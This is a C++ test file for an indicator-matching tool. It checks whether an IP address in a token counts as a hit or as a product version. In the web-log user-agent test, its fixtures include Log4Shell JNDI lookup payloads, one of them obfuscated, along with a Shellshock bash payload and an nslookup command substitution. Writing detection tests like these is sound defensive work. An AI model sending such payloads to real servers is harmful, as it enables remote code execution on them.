// Addresses beside others in one token, and versions of products, which are none.

#include <doctest/doctest.h>
#include <tests/sweep/kinds.hpp>

using namespace ample; // NOLINT: tests read better without the prefix
using namespace ample::testing;

TEST_CASE("sweep: addresses of ranges and behind words for places are found") {
    check_row("ip,203.0.113.9",
              {"203.0.113.9-203.0.113.12",
               "block 203.0.113.1-203.0.113.9 b",
               "203.0.113.1..203.0.113.9",
               "addr_203.0.113.9",
               "src_ip_203.0.113.9_443-dst_10.0.0.1",
               "%3D203.0.113.9-203.0.113.12",
               "\xE6\x8E\xA5\xE7\xB6\x9A"
               "203.0.113.9-203.0.113.12"},
              {"name-203.0.113.9",
               "203.0.113.9-beta1",
               "1-203.0.113.9.2",
               "versions 203.0.113.9-203.0.113.12",
               "version 203.0.113.1-203.0.113.9"});
    check_row("ip,203.0.113.0/29", {"ip-203.0.113.5"}, {"name-203.0.113.5"});
    check_row("ip,2001:db8::9",
              {"addr_2001:db8::9", "src_2001:db8::9 x", "2001:db8::9-2001:db8::f"},
              {"feed_2001:db8::9"});
}

TEST_CASE("sweep: lists of sockets have ports behind a dot") {
    check_row("ip,203.0.113.9",
              {"tcp4       0      0  10.0.0.5.51234       203.0.113.9.443        ESTABLISHED",
               "a\nudp4       0      0  203.0.113.9.53       *.*  \n"},
              {"tcp flow 203.0.113.9.443", "x tcp4 203.0.113.9.443 y", "tcp4 203.0.113.9.443.1 x"});
    check_row("ip,2001:db8::9",
              {"tcp6       0      0  ::1.51234       2001:db8::9.443        ESTABLISHED"});
}

TEST_CASE("sweep: what follows the name of a product is its version") {
    check_row("ip,203.0.113.9",
              {"curl 203.0.113.9",
               "python 203.0.113.9:443",
               "OpenSSL 203.0.113.9:443",
               "Chrome 203.0.113.9",
               "server=zk1/203.0.113.9",
               "inside/10.1.2.3(1234) -> outside/203.0.113.9(443)",
               "HIER_DIRECT/203.0.113.9",
               "tcp/203.0.113.9"},
              {"OpenSSL 203.0.113.9",
               "OpenSSL/203.0.113.9",
               "Chrome/203.0.113.9",
               "nginx/203.0.113.9",
               "Apache/2.4.1 Name/203.0.113.9",
               "User-Agent: Name/203.0.113.9",
               "rev. 203.0.113.9",
               "versions 203.0.113.9"});
}

TEST_CASE("sweep: addresses in user agents are versions, but in URLs, with ports and in commands") {
    const auto set = built("type,value\nip,203.0.113.9\n");
    const auto count = [&](const std::string& agent) {
        CAPTURE(agent);
        return hits(set,
                    "198.51.100.1 - - [01/Mar/2021:11:14:07 +0900] \"GET / HTTP/1.0\" 200 1 \"-\" "
                    "\"" +
                        agent + "\"\n",
                    "weblog")
            .size();
    };
    for (const char* agent : {"${jndi:ldap://203.0.113.9:1389/a}",
                              "${jndi:${lower:l}dap://203.0.113.9/a}",
                              "() { :;}; /bin/bash -c 'ping 203.0.113.9'",
                              "$(nslookup 203.0.113.9)",
                              "Bot/1.0 (+http://203.0.113.9/bot.html)",
                              "203.0.113.9:8080",
                              "203.0.113.9"}) {
        CHECK(count(agent) == 1);
    }
    for (const char* agent : {"Name/203.0.113.9",
                              "Mozilla/5.0 Name/203.0.113.9",
                              "Name 203.0.113.9",
                              "Mozilla/5.0 (rv:203.0.113.9) x"}) {
        CHECK(count(agent) == 0);
    }
}
